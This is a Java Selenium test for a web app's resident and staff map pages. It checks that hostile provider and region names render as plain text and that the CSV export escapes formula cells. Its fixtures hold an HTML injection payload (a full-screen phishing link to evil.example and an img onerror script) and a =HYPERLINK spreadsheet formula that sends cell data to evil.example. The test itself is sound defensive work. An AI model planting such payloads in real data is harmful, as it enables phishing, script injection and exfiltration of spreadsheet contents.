package org.linli.server;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.linli.core.access.Role;
import org.openqa.selenium.By;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.interactions.Actions;
import org.openqa.selenium.support.ui.ExpectedConditions;
import org.openqa.selenium.support.ui.WebDriverWait;

/**
 * Names that agencies and imports write are shown as text in every page, never as markup (map
 * tooltips included, which Leaflet would render as HTML), and a name that a spreadsheet would run
 * as a formula stays text in the staff page's CSV export. In headless Chromium.
 */
class HostileNamesBrowserTest {
  /** A phishing overlay and a script, as a provider's name. */
  static final String PROVIDER_NAME =
      "<a id=phish href=https://evil.example style=position:fixed;inset:0>请重新登录</a>"
          + "<img id=pwned src=x onerror=document.title='pwned'>";

  /** A spreadsheet formula and markup, as a region's name. */
  static final String REGION_NAME =
      "=HYPERLINK(\"https://evil.example/?d=\"&A2,\"详情\")<img id=pwned2 src=x>";

  static TestServer s;
  static WebDriver browser;

  @BeforeAll
  static void start() throws Exception {
    s = new TestServer(false);
    String region =
        """
        {"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {"name": %s},
         "geometry": {"type": "Polygon", "coordinates": [[[114.03, 22.52], [114.09, 22.52], [114.09, 22.57],
         [114.03, 22.57], [114.03, 22.52]]]}}]}"""
            .formatted(
                org.linli.server.json.Json.write(
                    org.linli.server.json.Json.MAPPER.getNodeFactory().textNode(REGION_NAME)));
    TestServer.Answer imported =
        RegionsApiTest.importAs(s, s.adminToken, "level=district&nameProperty=name", region);
    assertThat(imported.status()).as(imported.body()).isEqualTo(200);
    String doc =
        Documents.worker("hostile", 22.5440, 114.0590)
            .replace(
                "\"王芳\"",
                org.linli.server.json.Json.write(
                    org.linli.server.json.Json.MAPPER.getNodeFactory().textNode(PROVIDER_NAME)))
            .replace("\"activeCases\": 3", "\"activeCases\": 0");
    assertThat(s.put("/api/v1/providers/hostile", doc).status()).isEqualTo(201);
    assertThat(s.get("/api/v1/providers/hostile").json().get("name").asText())
        .as("stored as given")
        .isEqualTo(PROVIDER_NAME);
    s.awaitIndexed("hostile");
    browser = Browsers.chromium();
  }

  @AfterAll
  static void stop() {
    if (browser != null) {
      browser.quit();
    }
    s.close();
  }

  /** Hovers {@code target} and answers the tooltip Leaflet opens for it. */
  private static WebElement hoverTooltip(WebElement target) {
    new Actions(browser).moveToElement(target).perform();
    return Browsers.waitFor(browser)
        .until(ExpectedConditions.visibilityOfElementLocated(By.cssSelector(".leaflet-tooltip")));
  }

  @Test
  void residentMap_showsAProvidersHostileName_asText() {
    browser.get(
        "http://127.0.0.1:"
            + s.server.port()
            + "/resident/#token="
            + s.token("r-hostile", Role.RESIDENT, null, null));
    WebDriverWait wait = Browsers.waitFor(browser);
    try {
      wait.until(ExpectedConditions.attributeToBe(By.id("map"), "data-state", "ready"));
      new org.openqa.selenium.support.ui.Select(browser.findElement(By.id("skill")))
          .selectByValue("ELDER_CARE");
      browser.findElement(By.id("find")).click();
      wait.until(ExpectedConditions.attributeToBe(By.id("map"), "data-state", "matched"));
      List<WebElement> markers = browser.findElements(By.cssSelector("#map .num-marker"));
      assertThat(markers).hasSize(1);
      markers.get(0).click(); // a tap on the number shows the name
      WebElement popup =
          wait.until(
              ExpectedConditions.visibilityOfElementLocated(
                  By.cssSelector("#map .leaflet-popup-content")));
      assertThat(popup.getText()).contains("<a id=phish").contains("<img id=pwned");
      assertThat(markers.get(0).getAttribute("title")).contains("<img id=pwned");
      assertThat(browser.findElements(By.id("phish"))).as("no live link from the name").isEmpty();
      assertThat(browser.findElements(By.id("pwned"))).as("no live image from the name").isEmpty();
      assertThat(browser.getTitle()).isNotEqualTo("pwned");
      assertThat(browser.findElement(By.id("matches")).getText()).contains("请重新登录</a>");
    } finally {
      Browsers.printConsole(browser);
    }
  }

  @Test
  void staffMap_showsAHostileRegionName_asText_andItsCsvCellStaysText() {
    browser.get("about:blank");
    browser.get(
        "http://127.0.0.1:"
            + s.server.port()
            + "/staff/#token="
            + s.token("s-hostile", Role.STAFF, null, null));
    WebDriverWait wait = Browsers.waitFor(browser);
    try {
      wait.until(ExpectedConditions.attributeToBe(By.id("map"), "data-state", "ready"));
      WebElement region = browser.findElements(By.cssSelector("#map path.region")).get(0);
      WebElement tooltip = hoverTooltip(region);
      assertThat(tooltip.getText()).isEqualTo(REGION_NAME);
      assertThat(browser.findElements(By.id("pwned2"))).isEmpty();

      // The export as the page builds it: catch the download's content instead of saving a file.
      JavascriptExecutor js = (JavascriptExecutor) browser;
      js.executeScript("window.download = (name, type, content) => { window.__csv = content; };");
      browser.findElement(By.id("export-csv")).click();
      String csv = (String) js.executeScript("return window.__csv;");
      assertThat(csv)
          .contains(
              "\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A2,\"\"详情\"\")<img id=pwned2 src=x>\"");
      assertThat(csv.lines().skip(1)).noneMatch(line -> line.matches("^(.*,)?\"?[=+@-].*"));
      assertThat(
              (String)
                  js.executeScript(
                      "return csvCell('+1') + '|' + csvCell(-5) + '|' + csvCell('@x') + '|'"
                          + " + csvCell('a,b') + '|' + csvCell('\\tx');"))
          .isEqualTo("'+1|-5|'@x|\"a,b\"|'\tx");
    } finally {
      Browsers.printConsole(browser);
    }
  }
}
